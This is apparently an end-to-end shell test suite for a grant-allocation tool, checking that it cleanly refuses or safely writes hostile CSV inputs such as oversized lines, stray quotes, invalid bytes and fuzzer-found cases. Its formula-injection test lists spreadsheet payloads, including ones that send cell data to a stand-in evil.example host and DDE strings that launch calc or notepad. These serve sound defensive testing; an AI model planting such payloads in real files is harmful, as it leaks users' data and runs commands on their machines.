# End-to-end: hostile inputs, beyond the refusal corpus of test_inputs.sh.
# Huge headers and lines, quotes, every byte value, formula injection in
# every text that reaches the outputs, and the cases the fuzzers of
# tests/fuzz/ found. The engine must refuse cleanly (65, one line per
# message) or write outputs that no spreadsheet runs as formulas; never
# crash, hang or run out of memory. Large files are generated here.
. "$TOP/tests/e2e/lib.sh"

unset SOURCE_DATE_EPOCH

# folder DIR: a small valid input folder (one sub-region "Nord"), whose
# applications.csv the test then replaces.
folder() {
    mkdir -p "$1" &&
        printf 'fiscal_year,amount\n2024-2025,1000000.00\n2025-2026,1000000.00\n' \
            >"$1/envelopes.csv" &&
        printf 'subregion,amount\nNord,1500000.00\n' >"$1/split.csv"
}

# A rule file that funds whatever it is given.
printf 'return { program = "hostile", threshold = 0, checks = {}, criteria = {} }\n' \
    >"$WORK/any.lua"

run_any() { # DIR [options...]: the permissive rule file on DIR, into DIR/out
    dir=$1
    shift
    "$ALLIANCE" run --inputs "$dir" --rules "$WORK/any.lua" --out "$dir/out" \
        --no-db --quiet "$@"
}

# one_line_messages: every line of the last stderr is a message of its
# own (file:line:col: ..., or alliance: ...), none broken over lines.
one_line_messages() {
    if grep -vE '^([a-z_]+\.csv|[^ ]*\.lua|alliance)(:|$)' "$WORK/last.err" | grep -q .; then
        echo "a message runs over several lines:"
        cat "$WORK/last.err"
        return 1
    fi
}

# refused DIR TEXT: the run on DIR exits 65 within 60 s, says TEXT, one
# line per message, and writes nothing.
refused() {
    expect_status 65 timeout 60 "$ALLIANCE" run --inputs "$1" \
        --rules "$WORK/any.lua" --out "$1/out" --no-db --quiet &&
        stderr_has "$2" && one_line_messages && test ! -e "$1/out/decisions.csv"
}

# ---- sizes -------------------------------------------------------------

million_columns() {
    d="$WORK/columns"
    folder "$d" &&
        awk 'BEGIN { printf "id,organisation,subregion,requested,total_cost";
                     for (i = 0; i < 1000000; i++) printf ",c%d", i; printf "\n" }' \
            >"$d/applications.csv" &&
        refused "$d" 'applications.csv:1:1025: more than 1024 columns'
}

# A line of 100 MB, unquoted, then the same in a quote never closed.
line_of_100mb() {
    d="$WORK/line"
    folder "$d" && {
        printf 'id,organisation,subregion,requested,total_cost\nA,'
        head -c 100000000 /dev/zero | tr '\0' a
        printf ',Nord,10,20\n'
    } >"$d/applications.csv" &&
        refused "$d" 'applications.csv:2:2: organisation: "aaaa' &&
        stderr_has 'is longer than 1048576 bytes' || return 1
    {
        printf 'id,organisation,subregion,requested,total_cost\nA,"'
        head -c 100000000 /dev/zero | tr '\0' b
        printf ',Nord,10,20\n'
    } >"$d/applications.csv" &&
        refused "$d" 'applications.csv:2:2: organisation: "bbbb' &&
        stderr_has 'is longer than 1048576 bytes'
}

# ---- quotes ------------------------------------------------------------

# 100 000 quotes in one cell ("" doubled, RFC 4180), more in a title, a
# cell of quotes only: read, written and read back unchanged.
nested_quotes() {
    d="$WORK/quotes"
    folder "$d" && $PY - "$d/applications.csv" <<'EOF' || return 1
import csv, sys
rows = [["id", "organisation", "title", "subregion", "requested", "total_cost"],
        ["Q1", '"' * 100000, '""' + "a" * 10 + '"' * 999, "Nord", "10", "20"],
        ["Q2", '"', '"x"', "Nord", "10", "20"],
        ["Q3", 'Centre "Le Pont" ("" "")', "t", "Nord", "10", "20"]]
with open(sys.argv[1], "w", newline="", encoding="utf-8") as f:
    csv.writer(f, lineterminator="\n").writerows(rows)
EOF
    run_any "$d" &&
        $PY tests/e2e/check_hostile.py roundtrip "$d/out" "$d/applications.csv" organisation
}

# Quotes that do not pair up: refused at the place they break.
unpaired_quotes() {
    d="$WORK/unpaired"
    folder "$d" &&
        printf 'id,organisation,subregion,requested,total_cost\nA,"x""y,Nord,10,20\nB,b,Nord,10,20\n' \
            >"$d/applications.csv" &&
        refused "$d" 'unterminated quote' &&
        printf 'id,organisation,subregion,requested,total_cost\nA,"x"y",Nord,10,20\n' \
            >"$d/applications.csv" &&
        refused "$d" 'applications.csv:2:2: organisation: "x" has text after its closing quote'
}

# ---- every byte value --------------------------------------------------

# Bytes 0x01 to 0x7F, each in an organisation's name (quoted: line breaks
# and quotes too), and characters of every UTF-8 length: all accepted and
# written back unchanged (report.xlsx shows control characters the way
# Excel stores them, _x0001_).
every_valid_byte() {
    d="$WORK/bytes"
    folder "$d" && $PY - "$d/applications.csv" <<'EOF' || return 1
import csv, sys
chars = [chr(b) for b in range(1, 128)] + ["\u0080", "\u00e9", "\u00ff", "\u0100",
         "\u07ff", "\u0800", "\u20ac", "\ud7ff", "\ue000", "\ufffd", "\ufeff",
         "\U00010000", "\U0001f600", "\U0010ffff"]
rows = [["id", "organisation", "title", "subregion", "requested", "total_cost"]]
for i, c in enumerate(chars):
    rows.append(["B%03d" % i, "Org %s x" % c, "T%s" % c, "Nord", "10", "20"])
with open(sys.argv[1], "w", newline="", encoding="utf-8") as f:
    csv.writer(f, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
EOF
    run_any "$d" &&
        $PY tests/e2e/check_hostile.py roundtrip "$d/out" "$d/applications.csv" organisation
}

# NUL and every byte 0x80 to 0xFF on its own (never valid UTF-8): each
# refused (65) by a one-line message showing it as \xHH.
every_invalid_byte() {
    d="$WORK/badbyte"
    folder "$d" || return 1
    for b in 0 $(seq 128 255); do
        hex=$(printf '%02X' "$b")
        { printf 'id,organisation,subregion,requested,total_cost\nA,Org '
          printf "\\$(printf '%03o' "$b")"
          printf ' x,Nord,10,20\n'; } >"$d/applications.csv"
        if [ "$b" -eq 0 ]; then
            refused "$d" 'holds a NUL byte' || return 1
        else
            refused "$d" "\\x$hex" || { echo "byte 0x$hex"; return 1; }
        fi
    done
}

# U+FFFE and U+FFFF are valid UTF-8 but no XML can hold them: a
# sub-region or organisation holding one made report.xlsx unreadable.
# Refused at load.
noncharacters() {
    d="$WORK/nonchar"
    folder "$d" &&
        printf 'id,organisation,subregion,requested,total_cost\nA,Org \357\277\277,Nord,10,20\n' \
            >"$d/applications.csv" &&
        refused "$d" 'applications.csv:2:2: organisation: "Org \xEF\xBF\xBF" holds U+FFFF, which is not a character' &&
        printf 'id,organisation,subregion,requested,total_cost\nA,Org \357\277\276,Nord,10,20\n' \
            >"$d/applications.csv" &&
        refused "$d" 'holds U+FFFE, which is not a character'
}

# A rule's reason that string.sub cut in the middle of a character is
# not UTF-8: report.xlsx still opens, U+FFFD in its place.
rule_text_not_utf8() {
    d="$WORK/cut"
    folder "$d" &&
        printf 'id,organisation,subregion,requested,total_cost\nA,Société,Nord,10,20\n' \
            >"$d/applications.csv" &&
        cat >"$d/cut.lua" <<'EOF' &&
return { program = "cut", threshold = 0, criteria = {},
         checks = { { id = "c", label = "C", test = function(app)
           return false, "« " .. app.organisation:sub(1, 5) .. " »" end } } }
EOF
        "$ALLIANCE" run --inputs "$d" --rules "$d/cut.lua" --out "$d/out" \
            --no-db --quiet &&
        $PY - "$d/out/report.xlsx" <<'EOF'
import sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
         if isinstance(c.value, str)]
sys.exit(0 if any("« Soci\ufffd »" in t for t in texts) else 1)
EOF
}

# ---- formula injection -------------------------------------------------

# The Montérégie example with formula payloads as ids, organisations,
# titles, MRC, a sub-region's name and a committee justification. The CSV
# files write them after a ', report.xlsx as string cells, never as
# formulas. A tab before a payload is trimmed at load like any space, so
# "\t=1+1" arrives (and is neutralised) as "=1+1"; a CR stays.
formula_injection() {
    d="$WORK/inject"
    mkdir -p "$d" && cp inputs/monteregie/applications.csv \
        inputs/monteregie/envelopes.csv inputs/monteregie/split.csv "$d/" &&
        $PY - "$d" <<'EOF' || return 1
import csv, os, sys
d = sys.argv[1]
payloads = ['=HYPERLINK("http://evil.example","x")', "@SUM(A1)",
            "+cmd|' /C calc'!A0", "-2+3", "=1+1", "\r=1+2",
            '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
            "-cmd|' /C notepad'!'A1'", "@cmd", "+1"]
def rw(name, fn):
    with open(os.path.join(d, name), encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    fn(rows)
    write(name, rows)
def write(name, rows):
    with open(os.path.join(d, name), "w", encoding="utf-8", newline="") as f:
        csv.writer(f, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
def apps(rows):
    h = rows[0]
    for i, p in enumerate(payloads):
        r = rows[1 + i]
        r[h.index("id")] = p + " #%d" % i
        r[h.index("organisation")] = p
        r[h.index("title")] = p
        r[h.index("mrc")] = p
    rows[len(payloads) + 1][h.index("organisation")] = "\t=1+3"
    for r in rows[1:]:
        if r[h.index("subregion")] == "Est de la Montérégie":
            r[h.index("subregion")] = "=Est+1"
def split(rows):
    for r in rows:
        if r[0] == "Est de la Montérégie":
            r[0] = "=Est+1"
rw("applications.csv", apps)
rw("split.csv", split)
write("overrides.csv", [["application", "decision", "amount", "justification"],
                        [payloads[0] + " #0", "financer", "", payloads[1]]])
with open(os.path.join(d, "payloads"), "w", encoding="utf-8", newline="") as f:
    f.write("\0".join(payloads + ["=Est+1", "=1+3"]))
EOF
    "$ALLIANCE" run --inputs "$d" --rules rules/monteregie.lua --out "$d/out" \
        --no-db --quiet &&
        $PY - "$d" <<'EOF'
import subprocess, sys
d = sys.argv[1]
payloads = open(d + "/payloads", encoding="utf-8", newline="").read().split("\0")
sys.exit(subprocess.call(["/usr/bin/python3", "tests/e2e/check_hostile.py",
                          "injection", d + "/out"] + payloads))
EOF
}

# ---- what the fuzzers found ---------------------------------------------

# fuzz_inputs: envelopes.csv whose every row was refused made the loader
# sort a NULL array (undefined behaviour, fatal under make asan).
ragged_envelopes() {
    d="$WORK/ragged"
    folder "$d" &&
        printf 'fiscal_year,amount\n2024-2025,1000.00,1\n,\n' >"$d/envelopes.csv" &&
        printf 'id,organisation,subregion,requested,total_cost\nA,a,Nord,10,20\n' \
            >"$d/applications.csv" &&
        refused "$d" 'envelopes.csv:2:3: "1" is past the last column'
}

# fuzz_inputs: values quoted in messages (a column's name, the list of
# known sub-regions, a typed cell, a criterion) held line breaks and
# control characters, so a message ran over several lines.
messages_stay_one_line() {
    d="$WORK/lines"
    folder "$d" &&
        printf 'subregion,amount\n"No\nrd",1500000.00\n"Su\001d",1.00\n' >"$d/split.csv" &&
        printf 'id,organisation,subregion,requested,total_cost,"ex\ntra"\nA,a,Ouest,10,20,1\nB,b,Ouest,10,20\n' \
            >"$d/applications.csv" &&
        refused "$d" '(known: No rd, Su d)' &&
        stderr_has 'applications.csv:4:6: ex tra: no value' || return 1
    # a typed cell, then a criterion, through the Montérégie rule file
    mkdir -p "$d/typed" "$d/crit" &&
        cp inputs/monteregie/applications.csv inputs/monteregie/envelopes.csv \
            inputs/monteregie/split.csv "$d/typed/" &&
        cp "$d/typed/"*.csv "$d/crit/" &&
        sed -i '2s/,logement_social,/,"logement\nsocial",/' "$d/typed/applications.csv" &&
        expect_status 65 "$ALLIANCE" run --inputs "$d/typed" --rules rules/monteregie.lua \
            --out "$d/typed/out" --no-db --quiet &&
        stderr_has 'applications.csv:2:7: priorite: "logement social" is not one of' &&
        one_line_messages &&
        printf 'application,evaluator,criterion,points\nMON-2024-002,M,"parte\nnariat",1\n' \
            >"$d/crit/evaluations.csv" &&
        expect_status 65 "$ALLIANCE" run --inputs "$d/crit" --rules rules/monteregie.lua \
            --out "$d/crit/out" --no-db --quiet &&
        stderr_has 'criterion: "parte nariat" is not a criterion' && one_line_messages
}

# fuzz_rules: the largest-remainder split is not monotone (Alabama
# paradox): a one-cent reserve got a cent in the first year's cumulative
# apportionment and none in the second's, a negative cell, exit 70.
alabama_split() {
    d="$WORK/alabama"
    mkdir -p "$d" &&
        printf 'fiscal_year,amount\n2023-2024,2783864.34\n2024-2025,502668.79\n2025-2026,2783864.34\n2026-2027,502668.79\n' \
            >"$d/envelopes.csv" &&
        printf 'subregion,amount\nOuest,25827.37\nEst,3292989.97\nLongueuil,3254248.91\n' \
            >"$d/split.csv" &&
        printf 'id,organisation,subregion,requested,total_cost\nA,a,Est,10,20\n' \
            >"$d/applications.csv" &&
        run_any "$d" &&
        grep -q '^Réserve régionale (non répartie),2023-2024,0.01,' "$d/out/summary.csv" &&
        grep -q '^Réserve régionale (non répartie),total,0.01,' "$d/out/summary.csv"
}

check "a header of 1 000 000 columns: 65 at column 1025" million_columns
check "a line of 100 MB, bare and quoted: 65, cell too long" line_of_100mb
check "100 000 quotes in a cell: read and written back unchanged" nested_quotes
check "quotes that do not pair up: 65 where they break" unpaired_quotes
check "every byte 0x01-0x7F and UTF-8 of every length: unchanged in CSV and XLSX" every_valid_byte
check "NUL and every byte 0x80-0xFF alone: 65, shown as \\xHH" every_invalid_byte
check "U+FFFE and U+FFFF in a cell: 65, not a character" noncharacters
check "a rule's text cut inside a character: report.xlsx still opens" rule_text_not_utf8
check "formula injection: neutralised in CSV, plain strings in XLSX" formula_injection
check "envelopes.csv with every row refused: 65, no undefined behaviour" ragged_envelopes
check "values with line breaks keep messages on one line" messages_stay_one_line
check "a split hitting the Alabama paradox: no negative cell" alabama_split

done_suite e2e_hostile
